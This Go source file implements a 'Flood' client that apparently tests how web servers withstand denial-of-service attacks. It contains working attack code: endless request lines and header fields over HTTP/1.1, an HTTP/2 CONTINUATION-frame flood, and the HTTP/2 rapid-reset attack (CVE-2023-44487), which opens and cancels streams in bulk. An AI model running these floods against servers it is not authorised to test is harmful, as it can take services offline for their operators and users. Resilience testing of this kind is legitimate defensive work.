package wire

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// ErrNoHTTP2 is the error of a flood by HTTP/2 if the server does not speak it.
var ErrNoHTTP2 = errors.New("the server does not speak HTTP/2")

// A Flood is a client that sends more than a client needs to send.
type Flood struct {
	Dial       DialFunc
	Address    string
	ServerName string
	// Plain means without TLS.
	Plain bool
}

// connect opens a connection, which the context ends.
func (f Flood) connect(ctx context.Context, protocol string) (net.Conn, error) {
	raw, err := f.Dial(ctx, "tcp", f.Address)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { raw.Close() })
	if f.Plain {
		return raw, nil
	}
	offer := []string{protocol}
	if protocol == http2Protocol {
		offer = append(offer, "http/1.1") // else a server without HTTP/2 refuses the client
	}
	conn := tls.Client(raw, &tls.Config{
		ServerName: f.ServerName, InsecureSkipVerify: true, NextProtos: offer,
	})
	if err := conn.HandshakeContext(ctx); err != nil {
		raw.Close()
		return nil, err
	}
	if protocol == http2Protocol && conn.ConnectionState().NegotiatedProtocol != protocol {
		raw.Close()
		return nil, ErrNoHTTP2
	}
	return conn, nil
}

// Header sends the header of one request, which never ends, and returns the number of
// bytes that the server took until it answered or ended the connection, or until limit
// bytes were sent, or until the context ended. The kind says what does not end:
//
//   - "target": the target of the request line (RFC 9112 §3);
//   - "field": one header field (RFC 9112 §5);
//   - "fields": the list of header fields;
//   - "continuation": the CONTINUATION frames of a field section (RFC 9113 §6.10).
func (f Flood) Header(ctx context.Context, kind string, limit int64) (int64, error) {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	if kind == "continuation" {
		conn, err := f.connect(ctx, http2Protocol)
		if err != nil {
			return 0, err
		}
		defer conn.Close()
		return f.continuation(conn, limit)
	}
	begin, part := "GET / HTTP/1.1\r\nHost: "+f.ServerName+"\r\n", ""
	switch kind {
	case "target":
		begin, part = "GET /", strings.Repeat("a", 16<<10)
	case "field":
		begin, part = begin+"X-Assay: ", strings.Repeat("a", 16<<10)
	case "fields":
		part = strings.Repeat("X-Assay: a\r\n", 1<<10)
	default:
		return 0, fmt.Errorf(
			"kind of header: found %q, expected target, field, fields or continuation", kind)
	}
	conn, err := f.connect(ctx, "http/1.1")
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	return send(conn, limit, func() (int, error) {
		if begin != "" {
			defer func() { begin = "" }()
			return io.WriteString(conn, begin)
		}
		return io.WriteString(conn, part)
	}, func() { _, _ = conn.Read(make([]byte, 1)) }), nil
}

func (f Flood) continuation(conn net.Conn, limit int64) (int64, error) {
	framer, block, err := beginHTTP2(conn, f.ServerName)
	if err != nil {
		return 0, err
	}
	var field bytes.Buffer
	// Every frame repeats a field that is not indexed, so that no table grows.
	encoder := hpack.NewEncoder(&field)
	for range 16 {
		err := encoder.WriteField(hpack.HeaderField{
			Name: "x-assay", Value: strings.Repeat("a", 900), Sensitive: true,
		})
		if err != nil {
			return 0, err
		}
	}
	first := true
	return send(conn, limit, func() (int, error) {
		if first {
			first = false
			return len(block), framer.WriteHeaders(http2.HeadersFrameParam{
				StreamID: 1, BlockFragment: block, EndStream: true,
			})
		}
		return field.Len(), framer.WriteContinuation(1, false, field.Bytes())
	}, func() { awaitEnd(framer, true) }), nil
}

// Cancel sends this many requests by HTTP/2, and cancels each at once (RFC 9113 §5.4.2,
// CVE-2023-44487). It returns when all are sent, or the server has ended the connection,
// or the context has ended.
func (f Flood) Cancel(ctx context.Context, requests int) error {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	conn, err := f.connect(ctx, http2Protocol)
	if err != nil {
		return err
	}
	defer conn.Close()
	framer, block, err := beginHTTP2(conn, f.ServerName)
	if err != nil {
		return err
	}
	sent := 0
	send(conn, int64(requests), func() (int, error) {
		id := uint32(2*sent + 1)
		sent++
		return 1, errors.Join(
			framer.WriteHeaders(http2.HeadersFrameParam{
				StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true,
			}),
			framer.WriteRSTStream(id, http2.ErrCodeCancel))
	}, func() { awaitEnd(framer, false) })
	return nil
}

// beginHTTP2 sends what comes before the first request (RFC 9113 §3.4). It also returns
// the field section of a request.
func beginHTTP2(conn net.Conn, host string) (*http2.Framer, []byte, error) {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: host}, {Name: ":path", Value: "/"},
	} {
		field.Sensitive = true // so that the table stays as it is
		if err := encoder.WriteField(field); err != nil {
			return nil, nil, err
		}
	}
	framer := http2.NewFramer(conn, conn)
	_, err := io.WriteString(conn, http2.ClientPreface)
	return framer, block.Bytes(), errors.Join(err, framer.WriteSettings())
}

// awaitEnd reads frames until the server refuses the connection, or the only request of
// it.
func awaitEnd(framer *http2.Framer, onlyRequest bool) {
	for {
		frame, err := framer.ReadFrame()
		if err != nil {
			return
		}
		switch frame.(type) {
		case *http2.GoAwayFrame:
			return
		case *http2.RSTStreamFrame, *http2.HeadersFrame:
			if onlyRequest {
				return
			}
		}
	}
}

// send calls write until it has written limit in all, or fails, or until the server has
// ended the exchange, for which ended waits. It returns how much was written.
func send(conn net.Conn, limit int64, write func() (int, error), ended func()) int64 {
	var over atomic.Bool
	answered := make(chan struct{})
	go func() {
		defer close(answered)
		ended()
		over.Store(true)
		conn.Close() // ends a write that the server does not take
	}()
	var sent int64
	for sent < limit && !over.Load() {
		n, err := write()
		if err != nil {
			break
		}
		sent += int64(n)
	}
	conn.Close()
	<-answered
	return sent
}
